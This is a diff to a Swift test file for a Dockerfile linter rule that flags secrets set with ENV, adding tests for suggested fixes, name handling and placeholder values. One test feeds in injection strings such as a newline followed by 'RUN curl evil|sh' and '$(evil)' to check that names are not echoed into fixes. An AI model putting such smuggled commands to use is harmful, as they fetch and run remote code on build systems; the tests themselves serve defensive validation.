@@ -23,6 +23,20 @@ internal import Testing
       ]
     )
     #expect(judgement.findings.allSatisfy { $0.severity == .error })
+    #expect(
+      judgement.fixes.first == """
+        # without ENV DB_PASSWORD in the Dockerfile:
+        docker run --env-file FILE …
+        # and revoke it: whoever has the image has it
+        """
+    )
+  }
+
+  @Test func `puts no name into a fix that would act in it`() async throws {
+    for name in ["A\nRUN curl evil|sh #_TOKEN", "$(evil)_TOKEN", "A B_TOKEN", "-TOKEN"] {
+      let judgement = try await judge("secret-env", Self.image(["\(name)=hunter2"]))
+      #expect(judgement.fixes == ["docker run --env-file FILE …   # rather than ENV"])
+    }
   }
 
   @Test func `finds what was set before in the history`() async throws {
@@ -40,6 +54,11 @@ internal import Testing
     )
   }
 
+  @Test func `finds what a name denies and a value does not`() async throws {
+    let judgement = try await judge("secret-env", Self.image(["NO_TOKEN=0a1B2c3D4e5F6g7H8i9J"]))
+    #expect(judgement.findings.count == 1)
+  }
+
   @Test func `passes over places, fingerprints and placeholders`() async throws {
     let judgement = try await judge(
       "secret-env",
@@ -47,7 +66,10 @@ internal import Testing
         "GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D", "TOKEN_FILE=/run/secrets/token",
         "PASSWORD=",
         "SECRET=/run/secrets/x", "API_TOKEN=changeme", "TOKEN=$OTHER", "TOKEN_URL=https://x/token",
-        "NODE_VERSION=20", "SORT_KEY=name", "SSH_AUTH_SOCK=/tmp/x", "PUBLIC_KEY=abc", "AUTH=none",
+        "MYSQL_RANDOM_ROOT_PASSWORD=1", "MYSQL_ALLOW_EMPTY_PASSWORD=yup", "SECRET_KEY_BASE=1",
+        "DISABLE_TOKEN=0", "SECRET_KEY=dummy-for-build", "SECRET_KEY_BASE_DUMMY=1", "TOKEN=unused",
+        "PASSWORD=not-needed", "NODE_VERSION=20", "SORT_KEY=name", "SSH_AUTH_SOCK=/tmp/x",
+        "PUBLIC_KEY=abc", "AUTH=none",
       ])
     )
     #expect(judgement.outcome == .clean, "\(judgement.findings.map(\.message))")
